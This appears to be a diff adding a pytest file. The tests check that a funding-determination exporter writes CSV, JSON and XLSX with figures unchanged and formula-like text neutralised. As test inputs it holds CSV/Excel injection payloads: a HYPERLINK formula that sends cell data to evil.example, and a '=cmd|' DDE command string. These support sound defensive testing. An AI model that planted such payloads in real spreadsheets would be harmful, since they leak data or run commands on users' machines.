@@ -1,0 +1,149 @@
+"""Laying out determinations as CSV, JSON and XLSX: the figures unchanged, text made safe for Excel."""
+
+import csv
+import io
+import json
+from decimal import Decimal
+
+import openpyxl
+import pytest
+
+from sheets.batch import BoardResult
+from sheets.payloads import BoardRequest
+from sheets.safety import neutralise
+from sheets.writing import RESULT_COLUMNS, results_csv, results_json, results_xlsx
+
+HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+
+
+def determination(**overrides):
+    """A determination in api.md's response shape (figures chosen by hand, not by the code)."""
+    d = {
+        "hwb_code": "E06000001", "rule_set": "bcf-2015-16", "p4p_pool": Decimal("1000000.00"),
+        "plan_assured": True,
+        "conditions": [
+            {"condition": "plans_jointly_agreed", "status": "met", "access": True, "tranche": None,
+             "reasons": []},
+            {"condition": "seven_day_services", "status": "not_met", "access": False,
+             "tranche": "april-2015/conditions", "reasons": ["-confirmed is false", "explanation is empty"]},
+        ],
+        "metrics": [
+            {"metric": "local", "period": "april-2015", "tranche": "april-2015/metrics", "local_metric": None,
+             "name": HOSTILE, "polarity": "lower", "unit": "per 100,000", "status": "determined",
+             "baseline": {"value": 478.39506172839504, "ci_lower": 461.8, "ci_upper": 495.5}, "plan": 450.0,
+             "actual": {"value": 485.5, "ci_lower": 468.9, "ci_upper": 502.6},
+             "achievement": -0.25, "payable_fraction": 0.12345678, "significance": "assessed",
+             "minimum_significant_ambition": 461.8, "ambition_significant": True, "change_p_value": 0.0312812,
+             "change_significant": False, "trend_projection": None, "ambition_beyond_trend": None},
+        ],
+        "tranches": [
+            {"tranche": "april-2015/conditions", "available": Decimal("250000.00"),
+             "released": Decimal("187500.00"), "held_back": Decimal("62500.00"),
+             "held_back_use": "pending_conditions", "recovery_plan_required": False,
+             "lines": [{"item": "seven_day_services", "available": Decimal("62500.00"),
+                        "released": Decimal("0.00"), "held_back": Decimal("62500.00")}]},
+            {"tranche": "april-2015/metrics", "available": 250000.0, "released": 166666.67,
+             "held_back": 83333.33, "held_back_use": "recovery_plan", "recovery_plan_required": True,
+             "lines": [{"item": "local", "available": 83333.34, "released": 0.0, "held_back": 83333.34}]},
+            {"tranche": "october-2015/metrics", "available": Decimal("500000.00"), "released": None,
+             "held_back": None, "held_back_use": None, "recovery_plan_required": None, "lines": []},
+        ],
+        "totals": {"available": Decimal("1000000.00"), "released": None, "held_back": None},
+        "recovery_plan_required": True,
+        "warnings": [{"code": "ambition_not_significant", "metric": "local", "period": "april-2015",
+                      "message": "@SUM(1+1) is not significant"}],
+    }
+    d.update(overrides)
+    return d
+
+
+def result(**overrides):
+    request = BoardRequest("E06000001", "Hartlepool", {"hwb_code": "E06000001", "metrics": [
+        {"metric": "local", "definition": {"name": HOSTILE}, "periods": {}}]})
+    return BoardResult(request, determination(**overrides))
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-confirmed", "'-confirmed"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("", ""), (-5, -5), (-0.25, -0.25),
+    (Decimal("-1.50"), Decimal("-1.50")), (None, None), (True, True),
+])
+def test_neutralise_touches_only_formula_like_text(value, expected):
+    assert neutralise(value) == expected
+
+
+def test_results_csv_one_row_per_board_and_tranche():
+    text = results_csv([result()])
+    rows = list(csv.reader(io.StringIO(text)))
+    assert tuple(rows[0]) == RESULT_COLUMNS
+    assert rows[1:] == [
+        ["E06000001", "Hartlepool", "april-2015/conditions", "250000.00", "187500.00", "62500.00",
+         "pending_conditions", "FALSE", "TRUE"],
+        ["E06000001", "Hartlepool", "april-2015/metrics", "250000.00", "166666.67", "83333.33",
+         "recovery_plan", "TRUE", "TRUE"],
+        # pending: amounts not known yet are empty cells, not zeros
+        ["E06000001", "Hartlepool", "october-2015/metrics", "500000.00", "", "", "", "", "TRUE"],
+    ]
+    assert text.endswith("\r\n")
+
+
+def test_results_csv_neutralises_text_cells():
+    d = result()
+    d.request.hwb_name = "=cmd|' /C calc'!A0"
+    rows = list(csv.reader(io.StringIO(results_csv([d]))))
+    assert rows[1][1] == "'=cmd|' /C calc'!A0"
+
+
+def test_results_json_is_the_list_of_determinations():
+    body = json.loads(results_json([result(), result(hwb_code="E06000002")]))
+    assert [d["hwb_code"] for d in body] == ["E06000001", "E06000002"]
+    assert body[0]["tranches"][0]["available"] == 250000.0  # Decimal written as a JSON number
+    assert body[0]["metrics"][0]["name"] == HOSTILE  # JSON is data, not a spreadsheet: unchanged
+
+
+def test_xlsx_sheets_cells_types_and_formats():
+    book = openpyxl.load_workbook(io.BytesIO(results_xlsx([result()])))
+    assert book.sheetnames == ["Tranches", "Metric lines", "Conditions", "Warnings"]
+    for sheet in book.worksheets:
+        assert sheet.freeze_panes == "C2"
+        assert all(cell.font.bold for cell in sheet[1])
+        assert sheet.column_dimensions["B"].width == 28
+
+    tranches = book["Tranches"]
+    assert [c.value for c in tranches[1]] == list(RESULT_COLUMNS)
+    available, released = tranches["D2"], tranches["E3"]
+    assert available.value == 250000 and available.data_type == "n"
+    assert released.value == pytest.approx(166666.67) and released.data_type == "n"
+    assert "£" in available.number_format and "0.00" in available.number_format
+    assert tranches["H3"].value is True and tranches["I2"].value is True  # booleans stay booleans
+    assert tranches["E4"].value is None  # pending: empty
+
+    lines = book["Metric lines"]
+    header = [c.value for c in lines[1]]
+    row = {name: cell for name, cell in zip(header, lines[2], strict=True)}
+    assert row["name"].value == "'" + HOSTILE and row["name"].data_type == "s"  # neutralised, not a formula
+    # a negative number stays a number
+    assert row["achievement"].value == -0.25 and row["achievement"].data_type == "n"
+    assert row["baseline"].value == 478.4 and row["change_p_value"].value == 0.03128  # 4 significant figures
+    assert row["payable_fraction"].value == 0.123457  # 6 decimal places (rules §5)
+    assert row["baseline_ci_lower"].value == pytest.approx(461.8)
+    assert row["ambition_significant"].value is True and row["change_significant"].value is False
+    assert row["available"].value == pytest.approx(83333.34) and "£" in row["available"].number_format
+    assert row["released"].value == 0 and row["held_back"].value == pytest.approx(83333.34)
+    assert row["trend_projection"].value is None
+
+    conditions = book["Conditions"]
+    header = [c.value for c in conditions[1]]
+    seven = {name: cell.value for name, cell in zip(header, conditions[3], strict=True)}
+    assert seven["condition"] == "seven_day_services" and seven["status"] == "not_met"
+    assert seven["reasons"] == "'-confirmed is false; explanation is empty"
+    assert seven["held_back"] == 62500
+
+    warnings = book["Warnings"]
+    assert warnings["F2"].value == "'@SUM(1+1) is not significant"
+
+
+def test_xlsx_drops_characters_excel_cannot_hold():
+    d = result(warnings=[{"code": "x", "metric": None, "period": None, "message": "bell\x07here"}])
+    book = openpyxl.load_workbook(io.BytesIO(results_xlsx([d])))
+    assert book["Warnings"]["F2"].value == "bellhere"
